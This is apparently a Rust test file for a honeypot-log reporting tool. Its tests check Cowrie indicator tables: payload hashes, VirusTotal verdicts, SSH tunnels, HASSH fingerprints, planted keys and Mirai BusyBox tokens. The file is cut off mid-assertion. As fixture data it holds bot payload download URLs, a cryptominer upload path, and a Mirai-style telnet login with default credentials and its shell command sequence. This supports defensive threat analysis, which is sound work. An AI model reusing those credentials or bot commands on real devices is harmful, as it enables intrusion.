//! Payload hashes, tunnel destinations and HASSH: Cowrie's `file_download`,
//! `file_upload`, `direct-tcpip.*` and `client.kex` records (fixture
//! `cowrie_iocs.json`, see fixtures/README.md) and the `hassh` in the
//! `auxiliary_data` of trawl's session records (events.jsonl and trawl.db).

mod common;

use common::{counts, fixture, read_cleanly, rendered, run_with};
use trawl_report::Options;
use trawl_report::render::OutputFormat;
use trawl_report::report::{PayloadHash, Report, TtyInput, TunnelDestination, VirusTotal};

const H1: &str = "06b8742eaa0959506bcdf7aad18371f97f596633a519b33308cb0dd3bcc2d18a";
const H2: &str = "8b133a3868993176b613738816247a7f4d357cae555996519cf5b543e9b3554b";
const T1: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const T2: &str = "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752";
const H3: &str = "5f68ab227487747c9ee03335838f6f7d4e8fd75bc4cdf07e020de4e24eb7217c";
const HASSH_A: &str = "ec7378c1a92f5a8dde7e8b7a1ddf33d1";
const HASSH_B: &str = "b5752e36ba6c5979a575e43178908adf";

fn iocs(opts: &Options) -> Report {
    run_with(&[fixture("cowrie_iocs.json")], opts)
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_string()).collect()
}

fn hash_row(
    sha256: &str,
    count: u64,
    sources: &[&str],
    urls: &[&str],
    uploads: &[&str],
    seen: (&str, &str),
) -> PayloadHash {
    PayloadHash {
        sha256: sha256.into(),
        count,
        sources: sources.len() as u64,
        source_sample: strings(sources),
        urls: strings(urls),
        uploads: strings(uploads),
        first_seen: Some(seen.0.into()),
        last_seen: Some(seen.1.into()),
        virustotal: None,
    }
}

fn verdict(result: Option<(u32, u32)>, logged: &str) -> Option<VirusTotal> {
    Some(VirusTotal {
        positives: result.map(|r| r.0),
        total: result.map(|r| r.1),
        logged: Some(logged.into()),
    })
}

fn tunnel_row(
    (destination, host, port): (&str, &str, u16),
    (requests, data): (u64, u64),
    sources: &[&str],
    http_hosts: &[&str],
    seen: (&str, &str),
) -> TunnelDestination {
    TunnelDestination {
        destination: destination.into(),
        host: host.into(),
        port,
        requests,
        data,
        sources: sources.len() as u64,
        source_sample: strings(sources),
        http_hosts: strings(http_hosts),
        first_seen: Some(seen.0.into()),
        last_seen: Some(seen.1.into()),
    }
}

/// The payload-hash table of the fixture: one digest downloaded by two sources
/// from two URLs (once logged in upper case), an SCP upload, a stdin capture
/// without URL; a digest that is not 64 hex digits and the failed download
/// (no `shasum`) count nothing. VirusTotal verdicts: the latest logged per file
/// (H1 was new to VirusTotal at 12:00:09 and flagged by 38 of 72 engines at
/// 13:00:10, logged in upper case), `new` for H2, none for H3; a verdict on a
/// digest that is not 64 hex digits, or on a file not in the table, shows nowhere.
#[test]
fn cowrie_payload_hashes() {
    let r = iocs(&Options::default());
    assert_eq!(r.totals.bad_rows, 0, "{:?}", r.bad_rows);
    let mut want = [
        hash_row(
            H1,
            2,
            &["198.51.100.10", "203.0.113.7"],
            &["http://192.0.2.80/bins/x86", "http://203.0.113.50/x.sh"],
            &[],
            ("2024-06-01 12:00:03", "2024-06-01 13:00:02"),
        ),
        hash_row(
            H3,
            1,
            &["198.51.100.10"],
            &[],
            &[],
            ("2024-06-01 12:00:05", "2024-06-01 12:00:05"),
        ),
        hash_row(
            H2,
            1,
            &["203.0.113.7"],
            &[],
            &["/tmp/.x/miner"],
            ("2024-06-01 13:00:03", "2024-06-01 13:00:03"),
        ),
    ];
    want[0].virustotal = verdict(Some((38, 72)), "2024-06-01 13:00:10");
    want[2].virustotal = verdict(None, "2024-06-01 13:00:11");
    assert_eq!(r.payload_hashes, want);
    let labels: Vec<String> = (r.payload_hashes.iter())
        .filter_map(|h| h.virustotal.as_ref().map(VirusTotal::label))
        .collect();
    assert_eq!(labels, ["38/72", "new"]);
    // Verdicts are no events, and no activity of their sources.
    assert_eq!(r.totals.events, 16);
    assert_eq!(
        r.time_range.as_ref().map(|t| t.1.as_str()),
        Some("2024-06-01 15:00:03")
    );
}

/// Sessions that typed the same input share the digest of Cowrie's TTY log
/// (`cowrie.log.closed` `shasum`, once in upper case); a digest that is not 64 hex
/// digits counts nothing. These records are no events.
#[test]
fn cowrie_tty_input_digests() {
    let r = iocs(&Options::default());
    assert_eq!(
        r.tty_inputs,
        [
            TtyInput {
                sha256: T1.into(),
                sessions: 2,
                sources: 2,
                source_sample: strings(&["198.51.100.10", "2001:db8::77"]),
                first_seen: Some("2024-06-01 12:00:07".into()),
                last_seen: Some("2024-06-01 14:00:04".into()),
            },
            TtyInput {
                sha256: T2.into(),
                sessions: 1,
                sources: 1,
                source_sample: strings(&["203.0.113.7"]),
                first_seen: Some("2024-06-01 13:00:09".into()),
                last_seen: Some("2024-06-01 13:00:09".into()),
            },
        ]
    );
    assert_eq!(r.totals.events, 16);
    let csv = rendered(&r, OutputFormat::Csv);
    let row = format!(
        "tty_inputs,1,{T1},,,2,,,sources=2 first=2024-06-01 12:00:07 last=2024-06-01 14:00:04"
    );
    assert!(csv.lines().any(|l| l == row), "{csv}");
    let text = rendered(&r, OutputFormat::Text);
    assert!(text.contains("Identical shell sessions (Cowrie TTY input digests)"));
}

/// SSH environment variables and terminal sizes from Cowrie's `client.var` and
/// `client.size` records, counted per record; a size that is no number or a
/// variable without a value counts nothing. They are no events.
#[test]
fn cowrie_client_requests() {
    let r = iocs(&Options::default());
    assert_eq!(
        counts(&r.top_client_env),
        [("LANG=en_US.UTF-8", 2), ("LC_ALL=C", 1)]
    );
    assert_eq!(counts(&r.top_terminal_sizes), [("80x24", 2), ("200x50", 1)]);
    assert_eq!(r.totals.events, 16);
    let csv = rendered(&r, OutputFormat::Csv);
    assert!(
        csv.lines()
            .any(|l| l == "top_terminal_sizes,1,80x24,,,2,,,"),
        "{csv}"
    );
    assert!(
        csv.lines().any(|l| l == "top_client_env,2,LC_ALL=C,,,1,,,"),
        "{csv}"
    );
    let html = rendered(&r, OutputFormat::Html);
    assert!(html.contains("<h2>SSH environment variables (Cowrie client.var)</h2>"));
    assert!(html.contains("<h2>Terminal sizes (Cowrie client.size)</h2>"));
}

/// Reverse DNS names of the top sources from Cowrie's reversedns records: the
/// smallest name per address (lowercased, no final dot), whatever the filters; a
/// `ptr` that is no string names nothing.
#[test]
fn cowrie_reverse_dns_of_the_top_sources() {
    let r = iocs(&Options::default());
    let names: Vec<(&str, u64, &str)> = (r.top_source_names.iter())
        .map(|s| (s.source.as_str(), s.events, s.ptr.as_str()))
        .collect();
    assert_eq!(
        names,
        [
            ("198.51.100.10", 6, "scanner-1.example.net"),
            ("203.0.113.7", 3, "mail.example.org")
        ]
    );
    assert_eq!(r.totals.events, 16);
    let csv = rendered(&r, OutputFormat::Csv);
    let row = "top_source_names,2,203.0.113.7,,,3,,,mail.example.org";
    assert!(csv.lines().any(|l| l == row), "{csv}");
    let json: serde_json::Value =
        serde_json::from_str(&rendered(&r, OutputFormat::Json)).expect("JSON");
    assert_eq!(json["top_source_names"][0]["ptr"], "scanner-1.example.net");
    // 198.51.100.10's names were logged at 12:00:00.05, before this window.
    let later = Options {
        filters: trawl_report::Filters {
            since: trawl_report::time::parse_bound_at("2024-06-01 12:00:01", 0),
            ..Default::default()
        },
        ..Options::default()
    };
    let r = iocs(&later);
    assert_eq!(r.top_source_names.len(), 2, "{:?}", r.top_source_names);
    assert_eq!(r.top_source_names[0].ptr, "scanner-1.example.net");
    let heralding = run_with(&[fixture("seed_heralding.csv")], &Options::default());
    let json: serde_json::Value =
        serde_json::from_str(&rendered(&heralding, OutputFormat::Json)).expect("JSON");
    assert!(json.get("top_source_names").is_none());
}

/// URL verdicts (`cowrie.virustotal.scanurl`) mark the downloads rows that name
/// the same host, port and file, the command line's `wget` row included; rows
/// without a verdict have none (and no JSON key), and the column shows only when
/// some row has one.
#[test]
fn virustotal_url_verdicts_on_downloads() {
    let r = iocs(&Options::default());
    let rows: Vec<(&str, &str, &str, Option<String>)> = (r.downloads.iter())
        .map(|d| {
            let verdict = d.virustotal.as_ref().map(VirusTotal::label);
            (d.method.as_str(), d.host.as_str(), d.file.as_str(), verdict)
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("http", "192.0.2.80", "x86", Some("new".into())),
            ("http", "203.0.113.50", "y.sh", None),
            ("http", "203.0.113.50", "z.sh", None),
            ("wget", "203.0.113.50", "x.sh", Some("5/90".into())),
        ]
    );
    let json: serde_json::Value =
        serde_json::from_str(&rendered(&r, OutputFormat::Json)).expect("JSON");
    assert_eq!(
        json["downloads"][3]["virustotal"],
        serde_json::json!({"positives": 5, "total": 90, "logged": "2024-06-01 12:00:10"})
    );
    assert!(json["downloads"][1].get("virustotal").is_none());
    let csv = rendered(&r, OutputFormat::Csv);
    let row = "downloads,4,203.0.113.50,,,1,wget,,file=x.sh virustotal=5/90";
    assert!(csv.lines().any(|l| l == row), "{csv}");
    // Logs without verdicts (payload hashes and downloads but no VirusTotal
    // records) show no such column.
    let plain = run_with(&[fixture("cowrie.json")], &Options::default());
    assert!(!plain.payload_hashes.is_empty() && !plain.downloads.is_empty());
    for format in [OutputFormat::Text, OutputFormat::Md, OutputFormat::Html] {
        let out = rendered(&plain, format);
        assert!(!out.contains("virustotal"), "{out}");
    }
}

/// A verdict is about the file, not the attack: the filters that select the
/// downloads do not hide the latest verdict on their files, logged outside the
/// window or in another source's session.
#[test]
fn virustotal_verdicts_ignore_the_filters() {
    let opts = Options {
        filters: trawl_report::Filters {
            until: trawl_report::time::parse_bound_at("2024-06-01 12:30:00", 0),
            sources: vec!["198.51.100.0/24".parse().expect("net")].into(),
            ..Default::default()
        },
        ..Options::default()
    };
    let r = iocs(&opts);
    let hashes: Vec<(&str, Option<String>)> = (r.payload_hashes.iter())
        .map(|h| {
            (
                h.sha256.as_str(),
                h.virustotal.as_ref().map(VirusTotal::label),
            )
        })
        .collect();
    assert_eq!(hashes, [(H1, Some("38/72".into())), (H3, None)]);
}

/// The tunnel table: requests and data records per destination (host names
/// lowercased, IPv6 in brackets), the hosts HTTP requests sent into a tunnel ask
/// for; a request without `dst_ip` or with a `dst_port` that is no number is
/// ignored without a bad row.
#[test]
fn cowrie_tunnel_destinations() {
    let r = iocs(&Options::default());
    assert_eq!(
        r.tunnel_destinations,
        [
            tunnel_row(
                ("ip.example.com:80", "ip.example.com", 80),
                (2, 2),
                &["203.0.113.7", "2001:db8::77"],
                &["ip.example.com", "www.example.org:443"],
                ("2024-06-01 13:00:05", "2024-06-01 14:00:02"),
            ),
            tunnel_row(
                ("[2001:db8::443]:443", "2001:db8::443", 443),
                (1, 1),
                &["2001:db8::77"],
                &[],
                ("2024-06-01 14:00:03", "2024-06-01 14:00:03"),
            ),
            tunnel_row(
                ("smtp.example.net:25", "smtp.example.net", 25),
                (1, 1),
                &["203.0.113.7"],
                &[],
                ("2024-06-01 13:00:06", "2024-06-01 13:00:06"),
            ),
        ]
    );
}

/// HASSH per session from `cowrie.client.kex`; a value that is not 32 hex digits
/// (or not a string) is ignored. None of the indicator records is an event of its
/// own: the totals are those of the connect, login, command, download and close
/// records.
#[test]
fn cowrie_hassh_and_totals() {
    let r = iocs(&Options::default());
    assert_eq!(counts(&r.top_hassh), [(HASSH_A, 2), (HASSH_B, 1)]);
    let algorithms: Vec<(&str, Vec<&str>)> = (r.hassh_algorithms.iter())
        .map(|h| (h.hassh.as_str(), h.lists().collect()))
        .collect();
    assert_eq!(
        algorithms,
        [
            (
                HASSH_A,
                vec![
                    "curve25519-sha256,ecdh-sha2-nistp256",
                    "aes128-ctr,aes256-ctr",
                    "hmac-sha2-256",
                    "none"
                ]
            ),
            (
                HASSH_B,
                vec![
                    "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
                    "aes128-cbc,3des-cbc",
                    "hmac-sha1",
                    "none"
                ]
            ),
        ]
    );
    assert_eq!(
        counts(&r.top_client_versions),
        [("SSH-2.0-libssh2_1.9.0", 1)]
    );
    // 4 connects + 3 logins + 1 command + 4 downloads with a URL + 4 closes.
    assert_eq!(r.totals.events, 16);
    assert_eq!(r.totals.recorded_downloads, 4);
    assert_eq!(r.sessions.total, 4);
    assert_eq!(r.totals.bad_rows, 0);
    let top: Vec<(&str, u64)> = counts(&r.top_sources);
    assert_eq!(
        top,
        [
            ("198.51.100.10", 6),
            ("203.0.113.7", 3),
            ("2001:db8::77", 2),
            ("192.0.2.200", 1)
        ],
        "tunnel and kex records add nothing to their sources' events"
    );
}

/// The filters apply to the indicator records too.
#[test]
fn filters_select_indicator_records() {
    let opts = Options {
        filters: trawl_report::Filters {
            sources: vec!["203.0.113.0/24".parse().expect("net")].into(),
            ..Default::default()
        },
        ..Options::default()
    };
    let r = iocs(&opts);
    let hashes: Vec<(&str, u64, u64)> = r
        .payload_hashes
        .iter()
        .map(|h| (h.sha256.as_str(), h.count, h.sources))
        .collect();
    assert_eq!(hashes, [(H1, 1, 1), (H2, 1, 1)]);
    let tunnels: Vec<(&str, u64, u64)> = r
        .tunnel_destinations
        .iter()
        .map(|t| (t.destination.as_str(), t.requests, t.data))
        .collect();
    assert_eq!(
        tunnels,
        [("ip.example.com:80", 1, 1), ("smtp.example.net:25", 1, 1)]
    );
    assert_eq!(counts(&r.top_hassh), [(HASSH_A, 1)]);
    let tty: Vec<(&str, u64)> = (r.tty_inputs.iter())
        .map(|t| (t.sha256.as_str(), t.sessions))
        .collect();
    assert_eq!(tty, [(T2, 1)]);
}

/// One worker or three, on blocks of a few lines each: the same report.
#[test]
fn one_or_three_threads_give_the_same_json() {
    let inputs = [fixture("cowrie_iocs.json"), fixture("cowrie.json")];
    let json = |threads: usize, block_size: usize| {
        let opts = Options {
            threads,
            block_size,
            ..Options::default()
        };
        serde_json::to_string_pretty(&run_with(&inputs, &opts)).expect("serialize")
    };
    let reference = json(1, 0);
    assert!(reference.contains(H1) && reference.contains("ip.example.com:80"));
    for (threads, block) in [(1, 512), (3, 512), (3, 0), (3, 1_500)] {
        assert_eq!(
            json(threads, block),
            reference,
            "{threads} threads, {block}-byte blocks"
        );
    }
}

/// CSV rows, JSON keys and the text, Markdown and HTML tables of the new tables.
#[test]
fn every_output_format_has_the_tables() {
    let r = iocs(&Options::default());
    let csv = rendered(&r, OutputFormat::Csv);
    for row in [
        format!("top_hassh,1,{HASSH_A},,,2,,,"),
        format!("top_hassh,2,{HASSH_B},,,1,,,"),
        format!(
            "payload_hashes,1,{H1},,,2,,,sources=2 urls=http://192.0.2.80/bins/x86|http://203.0.113.50/x.sh uploads= first=2024-06-01 12:00:03 last=2024-06-01 13:00:02 virustotal=38/72"
        ),
        format!(
            "payload_hashes,3,{H2},,,1,,,sources=1 urls= uploads=/tmp/.x/miner first=2024-06-01 13:00:03 last=2024-06-01 13:00:03 virustotal=new"
        ),
        "tunnel_destinations,1,ip.example.com:80,,,2,,,data=2 sources=2 http_hosts=ip.example.com|www.example.org:443 first=2024-06-01 13:00:05 last=2024-06-01 14:00:02".to_string(),
        "tunnel_destinations,2,[2001:db8::443]:443,,,1,,,data=1 sources=1 http_hosts= first=2024-06-01 14:00:03 last=2024-06-01 14:00:03".to_string(),
    ] {
        assert!(csv.lines().any(|l| l == row), "CSV row {row:?} missing:\n{csv}");
    }
    let json: serde_json::Value =
        serde_json::from_str(&rendered(&r, OutputFormat::Json)).expect("JSON");
    assert_eq!(json["payload_hashes"][0]["sha256"], H1);
    assert_eq!(
        json["payload_hashes"][0]["urls"][1],
        "http://203.0.113.50/x.sh"
    );
    assert_eq!(
        json["tunnel_destinations"][0]["http_hosts"][1],
        "www.example.org:443"
    );
    assert_eq!(json["top_hassh"][0]["value"], HASSH_A);
    assert_eq!(
        json["payload_hashes"][0]["virustotal"],
        serde_json::json!({"positives": 38, "total": 72, "logged": "2024-06-01 13:00:10"})
    );
    assert_eq!(
        json["payload_hashes"][2]["virustotal"],
        serde_json::json!({"positives": null, "total": null, "logged": "2024-06-01 13:00:11"})
    );
    assert_eq!(
        json["payload_hashes"][1]["virustotal"],
        serde_json::Value::Null
    );
    assert_eq!(
        json["hassh_algorithms"][0]["algorithms"],
        "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none"
    );
    assert!(
        csv.lines()
            .any(|l| l.starts_with(&format!("hassh_algorithms,2,{HASSH_B},,,,,,")))
    );
    let text = rendered(&r, OutputFormat::Text);
    let md = rendered(&r, OutputFormat::Md);
    let html = rendered(&r, OutputFormat::Html);
    for title in [
        "Payload hashes (files the honeypot stored)",
        "Tunnel destinations (SSH direct-tcpip)",
        "Top HASSH (sessions; SSH client key-exchange fingerprints)",
        "HASSH algorithms (what each HASSH above is the MD5 of)",
    ] {
        assert!(text.contains(title), "text: {title}");
        assert!(md.contains(&format!("## {title}")), "Markdown: {title}");
        assert!(html.contains(&format!("<h2>{title}</h2>")), "HTML: {title}");
    }
    assert!(text.contains("upload:/tmp/.x/miner"));
    let hashes = text
        .split("\n\n")
        .find(|b| b.starts_with("Payload hashes"))
        .unwrap_or_default();
    assert!(hashes.contains("virustotal"), "{hashes}");
    assert!(
        hashes
            .lines()
            .any(|l| l.contains(H1) && l.contains(" 38/72 ")),
        "{hashes}"
    );
    assert!(html.contains("<td>38/72</td>"));
    assert!(html.contains("<td>[2001:db8::443]:443</td>"));
}

/// Inputs without indicator records leave the new tables empty and add no CSV rows.
#[test]
fn heralding_input_has_no_indicator_rows() {
    let r = run_with(&[fixture("seed_heralding.csv")], &Options::default());
    assert!(r.payload_hashes.is_empty() && r.tunnel_destinations.is_empty());
    assert!(r.top_hassh.is_empty() && r.hassh_algorithms.is_empty() && r.tty_inputs.is_empty());
    let csv = rendered(&r, OutputFormat::Csv);
    assert!(
        !csv.contains("payload_hashes")
            && !csv.contains("tunnel_")
            && !csv.contains("hassh")
            && !csv.contains("tty_inputs"),
        "{csv}"
    );
    let text = rendered(&r, OutputFormat::Text);
    assert!(
        !text.contains("HASSH") && !text.contains("TTY") && !text.contains("client.var"),
        "{text}"
    );
    assert!(r.top_client_env.is_empty() && r.top_terminal_sizes.is_empty());
}

/// A trawl session record as the sensor writes it to events.jsonl.
fn trawl_session(id: &str, aux: &str) -> String {
    format!(
        r#"{{"type":"session","timestamp":"2024-05-01T10:00:0{}Z","session_id":"{id}","source_ip":"198.51.100.9","source_port":40000,"destination_ip":"192.0.2.1","destination_port":2222,"protocol":"ssh","duration":1.5,"num_auth_attempts":0,"auth_attempts":[],"end_reason":"client_closed","auxiliary_data":{aux}}}"#,
        id.len() % 10
    )
}

/// The `hassh` of trawl's SSH session records (events.jsonl): counted per session,
/// lowercased; values that are not 32 hex digits or not strings are ignored.
#[test]
fn hassh_of_trawl_session_records() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("events.jsonl");
    let aux = |hassh: &str| {
        format!(
            r#"{{"client_version":"SSH-2.0-Go","hassh":{hassh},"hassh_algorithms":"curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}}"#
        )
    };
    let lines = [
        trawl_session("a", &aux(&format!("\"{HASSH_A}\""))),
        trawl_session("b", &aux(&format!("\"{}\"", HASSH_A.to_ascii_uppercase()))),
        trawl_session("c", &aux(&format!("\"{HASSH_B}\""))),
        trawl_session("d", &aux("\"abc\"")),
        trawl_session("e", &aux("7")),
        trawl_session("f", "{}"),
    ];
    std::fs::write(&path, lines.join("\n")).expect("write");
    let r = run_with(&[path.display().to_string()], &Options::default());
    assert_eq!(r.totals.bad_rows, 0, "{:?}", r.bad_rows);
    assert_eq!(counts(&r.top_hassh), [(HASSH_A, 2), (HASSH_B, 1)]);
    assert_eq!(counts(&r.top_client_versions), [("SSH-2.0-Go", 5)]);
    assert_eq!(r.totals.events, 6, "HASSH records are not events");
}

/// The same sessions in a trawl.db `sessions` table (the sensor's columns).
#[test]
fn hassh_of_trawl_db_sessions() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("trawl.db");
    let db = common::trawl_db(&path);
    let sessions = [
        (
            "s1",
            format!(r#"{{"client_version":"SSH-2.0-Go","hassh":"{HASSH_A}"}}"#),
        ),
        ("s2", format!(r#"{{"hassh":"{HASSH_A}"}}"#)),
        ("s3", format!(r#"{{"hassh":"{HASSH_B}"}}"#)),
        ("s4", r#"{"hassh":"0123"}"#.to_string()),
        ("s5", r#"{"hassh":["x"]}"#.to_string()),
        ("s6", "not json with hassh".to_string()),
    ];
    for (i, (id, aux)) in sessions.iter().enumerate() {
        db.execute(
            "INSERT INTO sessions VALUES (?1, '2024-05-01T10:00:00Z', ?2, 1.5, 'ssh', \
             ?3, 40000, '192.0.2.1', 2222, 0, 'client_closed', ?4)",
            rusqlite::params![
                id,
                format!("2024-05-01T10:00:0{i}Z"),
                format!("198.51.100.{i}"),
                aux
            ],
        )
        .expect("insert");
    }
    drop(db);
    for threads in [1, 3] {
        let r = read_cleanly(&path, threads);
        assert_eq!(counts(&r.top_hassh), [(HASSH_A, 2), (HASSH_B, 1)]);
        assert_eq!(counts(&r.top_client_versions), [("SSH-2.0-Go", 1)]);
        assert_eq!(r.totals.events, 6);
    }
}

/// Hostile indicator fields: long and multi-byte values are cut on a character
/// boundary, odd types and out-of-range ports are ignored, nothing is a bad row.
#[test]
fn hostile_indicator_fields_are_bounded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("cowrie.json");
    let line = |eventid: &str, extra: serde_json::Value| {
        let mut v = serde_json::json!({"eventid": eventid, "session": "e5e5e5e5e5e5",
            "src_ip": "192.0.2.5", "timestamp": "2024-06-01T12:00:00.000000Z"});
        if let (Some(obj), Some(more)) = (v.as_object_mut(), extra.as_object()) {
            obj.extend(more.clone());
        }
        v.to_string()
    };
    let long_host = format!("{}\u{1b}[31m", "é".repeat(400));
    let huge = format!("b'GET http://{}/ HTTP/1.1", "a".repeat(100_000));
    let lines = [
        line(
            "cowrie.direct-tcpip.request",
            serde_json::json!({"dst_ip": long_host, "dst_port": 8080}),
        ),
        line(
            "cowrie.direct-tcpip.request",
            serde_json::json!({"dst_ip": "192.0.2.9", "dst_port": -1}),
        ),
        line(
            "cowrie.direct-tcpip.request",
            serde_json::json!({"dst_ip": "192.0.2.9", "dst_port": 1e300}),
        ),
        line(
            "cowrie.direct-tcpip.request",
            serde_json::json!({"dst_ip": ["x"], "dst_port": 80}),
        ),
        line(
            "cowrie.direct-tcpip.data",
            serde_json::json!({"dst_ip": "192.0.2.9", "dst_port": 80, "data": huge}),
        ),
        line(
            "cowrie.direct-tcpip.data",
            serde_json::json!({"dst_ip": "192.0.2.9", "dst_port": "80", "data": {"a": 1}}),
        ),
        line(
            "cowrie.session.file_upload",
            serde_json::json!({"shasum": H2, "filename": "ü".repeat(500)}),
        ),
        line(
            "cowrie.session.file_upload",
            serde_json::json!({"shasum": {"x": H2}, "filename": "f"}),
        ),
        line(
            "cowrie.session.file_download",
            serde_json::json!({"shasum": 7, "url": "http://192.0.2.1/a"}),
        ),
        line("cowrie.client.kex", serde_json::json!({"hassh": null})),
    ];
    std::fs::write(&path, lines.join("\n")).expect("write");
    let r = run_with(&[path.display().to_string()], &Options::default());
    assert_eq!(r.totals.bad_rows, 0, "{:?}", r.bad_rows);
    assert!(r.top_hassh.is_empty());
    assert_eq!(
        r.totals.recorded_downloads, 1,
        "the download with a numeric shasum"
    );
    assert_eq!(r.payload_hashes.len(), 1);
    let upload = &r.payload_hashes[0].uploads;
    assert_eq!(upload.len(), 1);
    assert_eq!(
        upload[0],
        "ü".repeat(127),
        "255 bytes cut to whole characters"
    );
    let tunnels: Vec<(String, u64, u64, usize)> = r
        .tunnel_destinations
        .iter()
        .map(|t| {
            (
                t.destination.clone(),
                t.requests,
                t.data,
                t.http_hosts.len(),
            )
        })
        .collect();
    let cut_host = format!("{}:8080", "é".repeat(127));
    assert_eq!(
        tunnels,
        [("192.0.2.9:80".to_string(), 0, 2, 0), (cut_host, 1, 0, 0)],
        "a host name longer than 255 bytes is not recorded as a requested host"
    );
}

/// `ssh-keygen -lf` of the key in `cowrie_keys.json` (see fixtures/README.md).
const KEY_PRINT: &str = "ssh-ed25519 SHA256:zPutkjZe6sumQbLB17vvE1TmSs51i2VrWLaEXolsn/o";

#[test]
fn ssh_keys_offered_and_planted() {
    for threads in [1, 3] {
        let opts = Options {
            threads,
            ..Options::default()
        };
        let r = run_with(&[fixture("cowrie_keys.json")], &opts);
        assert_eq!(r.totals.key_offers, 4, "every client.fingerprint record");
        assert_eq!(
            r.totals.credential_attempts, 1,
            "key offers are no passwords"
        );
        assert!(r.top_passwords.iter().all(|p| p.value == "1234"));
        assert_eq!(
            r.totals.logins_succeeded, 2,
            "the accepted key login (no attempt of its own) and the accepted password"
        );
        assert_eq!(
            r.totals.events, 9,
            "a key login's record is no event of its own"
        );
        let rows: Vec<(String, u64, u64, u64)> = r
            .ssh_keys
            .iter()
            .map(|k| (k.key.clone(), k.offered, k.planted, k.sources))
            .collect();
        assert_eq!(
            rows,
            [
                (KEY_PRINT.to_string(), 2, 1, 3),
                (
                    "ssh-rsa MD5:0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9".to_string(),
                    1,
                    0,
                    1
                ),
            ],
            "{threads} threads: the same key offered by two sources and planted by a \
             third is one row; a record with neither a usable key nor an MD5 print is \
             only counted as an attempt"
        );
        let key = &r.ssh_keys[0];
        assert_eq!(key.comments, ["mdrfckr"]);
        assert_eq!(counts(&key.usernames), [("admin", 1), ("root", 1)]);
        assert_eq!(
            key.source_sample,
            ["198.51.100.21", "198.51.100.22", "203.0.113.24"]
        );
        assert_eq!(key.first_seen.as_deref(), Some("2024-06-01 08:00:01"));
        assert_eq!(key.last_seen.as_deref(), Some("2024-06-01 11:00:01"));
        let text = rendered(&r, OutputFormat::Text);
        assert!(text.contains("SSH public keys (offered at login, planted in authorized_keys)"));
        assert!(text.contains(KEY_PRINT));
        let csv = rendered(&r, OutputFormat::Csv);
        assert!(csv.contains(&format!("ssh_keys,1,{KEY_PRINT}")), "{csv}");
        // A key is a fingerprint feature: the two sources that offered the same key
        // and nothing else are one campaign, of brute forcers (not "no attempts");
        // the source that planted it lists it beside its commands.
        let campaign = |i: usize| {
            let c = &r.campaigns[i];
            (c.source_sample.join(" "), c.family, counts(&c.ssh_keys))
        };
        assert_eq!(r.campaigns.len(), 2, "{threads} threads");
        assert_eq!(
            campaign(0),
            (
                "198.51.100.21 198.51.100.22".to_string(),
                "brute force",
                vec![(KEY_PRINT, 2)]
            ),
            "{threads} threads"
        );
        assert_eq!(
            campaign(1),
            (
                "203.0.113.24".to_string(),
                "unknown loader",
                vec![(KEY_PRINT, 1)]
            ),
            "{threads} threads"
        );
        assert!(csv.contains(&format!(" keys={KEY_PRINT}:2")), "{csv}");
        assert!(text.contains("ssh keys (members)"), "{text}");
        assert!(text.contains(&format!("{KEY_PRINT} (2)")), "{text}");
    }
}

/// A Cowrie log of four Mirai-style bots: two send Okiru's BusyBox token, two each
/// a token no known bot uses (as a bot that picks a new word per connection would).
fn token_log(dir: &std::path::Path) -> std::path::PathBuf {
    let mut lines = Vec::new();
    for (i, (ip, token)) in [
        ("198.51.100.31", "OKIRU"),
        ("198.51.100.32", "OKIRU"),
        ("203.0.113.33", "NEWBOT"),
        ("203.0.113.34", "QWXYZ"),
    ]
    .into_iter()
    .enumerate()
    {
        let record = |second: usize, rest: String| {
            format!(
                r#"{{{rest},"session":"t{i}","src_ip":"{ip}","protocol":"telnet","timestamp":"2024-07-01T10:00:{second:02}.000000Z"}}"#
            )
        };
        lines.push(record(
            0,
            r#""eventid":"cowrie.login.success","username":"root","password":"vizxv""#.into(),
        ));
        for (s, input) in [
            "enable",
            "system",
            "shell",
            "sh",
            &format!("/bin/busybox {token}"),
        ]
        .into_iter()
        .enumerate()
        {
            lines.push(record(
                s + 1,
                format!(r#""eventid":"cowrie.command.input","input":"{input}""#),
            ));
        }
    }
    let path = dir.join("tokens.json");
    std::fs::write(&path, lines.join("\n") + "\n").expect("write log");
    path
}

#[test]
fn busybox_tokens_name_the_mirai_fork() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = token_log(dir.path());
    for threads in [1, 3] {
        // All four share their dictionary and the Mirai words, so only the token
        // tells them apart: 6 of 8 features shared, a Jaccard index of 0.75. Unknown
        // tokens are one feature: the two bots with new words have one fingerprint.
        let opts = Options {
            threads,
            jaccard: 0.8,
            ..Options::default()
        };
        let r = run_with(&[log.display().to_string()], &opts);
        assert_eq!(r.totals.bad_rows, 0);
        let tokens: Vec<(&str, u64, Option<&str>)> = (r.iot.busybox_tokens.iter())
            .map(|t| (t.value.as_str(), t.count, t.variant))
            .collect();
        assert_eq!(
            tokens,
            [
                ("OKIRU", 2, Some("Okiru (Mirai fork)")),
                ("NEWBOT", 1, None),
                ("QWXYZ", 1, None)
            ],
            "{threads} threads"
        );
        let bots: Vec<(String, &str, Vec<&str>, Vec<String>)> = (r.campaigns.iter())
            .map(|c| {
                let sample = c.source_sample.join(" ");
                (sample, c.family, c.variants.clone(), c.flags.clone())
            })
            .collect();
        assert_eq!(
            bots,
            [
                (
                    "198.51.100.31 198.51.100.32".to_string(),
                    "Mirai",
                    vec!["Okiru (Mirai fork)"],
                    vec![]
                ),
                (
                    "203.0.113.33 203.0.113.34".to_string(),
                    "Mirai",
                    vec![],
                    vec![
                        "unknown-busybox-token: NEWBOT, QWXYZ (no known bot sends it: a new \
                         Mirai fork?)"
                            .to_string()
                    ]
                ),
            ],
            "{threads} threads: the token is a fingerprint feature; a token no known \
             bot sends still makes a Mirai-style source, named by no fork"
        );
        let text = rendered(&r, OutputFormat::Text);
        assert!(text.contains("known bots (busybox token)"), "{text}");
        let csv = rendered(&r, OutputFormat::Csv);
        assert!(
